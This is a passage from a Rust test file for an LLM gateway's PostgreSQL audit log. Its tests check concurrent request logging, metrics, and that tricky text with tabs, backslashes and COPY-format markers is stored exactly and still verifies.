                    .await
                    .status()
            }
        })
        .buffer_unordered(32)
        .collect()
        .await;
    assert!(statuses.iter().all(|s| *s == 200));
    let pool = PgPool::connect(&db).await.unwrap();
    wait_for_rows(&pool, "gw-full", 200).await;
    let distinct: i64 = sqlx::query_scalar("SELECT count(DISTINCT request_id) FROM audit_calls")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(distinct, 200);
    let metrics = gw.get("/metrics").await.text().await.unwrap();
    assert!(
        metric(&metrics, "ragway_audit_spooled_total") > 0.0,
        "the queue overflowed"
    );
    let reports = ragway::audit::verify::verify(store(&gw).as_ref(), Range::default())
        .await
        .unwrap();
    assert_eq!(
        (reports[0].rows, &reports[0].fault),
        (200, &None),
        "{}",
        reports[0]
    );
}

#[tokio::test]
async fn text_that_copy_reads_as_syntax_is_stored_as_it_was_and_verifies() {
    let db = fresh_database().await;
    let store = ragway::audit::store::postgres::PgStore::connect_lazy(&db).unwrap();
    store.migrate().await.unwrap();
    let mut row = sample_row("tricky");
    let nasty =
        "tab\there, newline\nthere, cr\r, backslash \\ and \\N and \\.\n\\.\n, quote ' \" 中文 🙂";
    row.answer = Some(nasty.to_owned());
    row.prompt = Some(String::new());
    row.end_user = Some("\\x00".to_owned());
    row.client_ip = Some("2001:db8::1".to_owned());
    row.user_agent = Some("agent\twith\ttabs".to_owned());
    row.cost = Some(0.1 + 0.2);
    row.attempts =
        serde_json::value::RawValue::from_string(r#"[{"error":"a\tb \\ \"c\""}]"#.to_owned())
            .unwrap();
    store
        .append("gw-tricky", &[row.clone(), sample_row("plain")], None)
        .await
        .unwrap();
    let back = store
        .query(&Query {
            request_id: Some("tricky".into()),
            limit: 1,
            ..Query::default()
        })
        .await
        .unwrap()
        .remove(0)
        .row;
    assert_eq!(back.answer.as_deref(), Some(nasty));
    assert_eq!(
        back.prompt.as_deref(),
        Some(""),
        "empty text stays empty, not NULL"
    );
    assert_eq!(back.end_user, row.end_user);
    assert_eq!(back.client_ip.as_deref(), Some("2001:db8::1"));
    assert_eq!(back.user_agent, row.user_agent);
    assert_eq!(back.cost, Some(0.1 + 0.2));
    assert_eq!(back.attempts.get(), row.attempts.get());
    let reports = ragway::audit::verify::verify(&store, Range::default())
        .await
        .unwrap();
    assert_eq!(
        (reports[0].rows, &reports[0].fault),
        (2, &None),
        "{}",
        reports[0]
    );
}
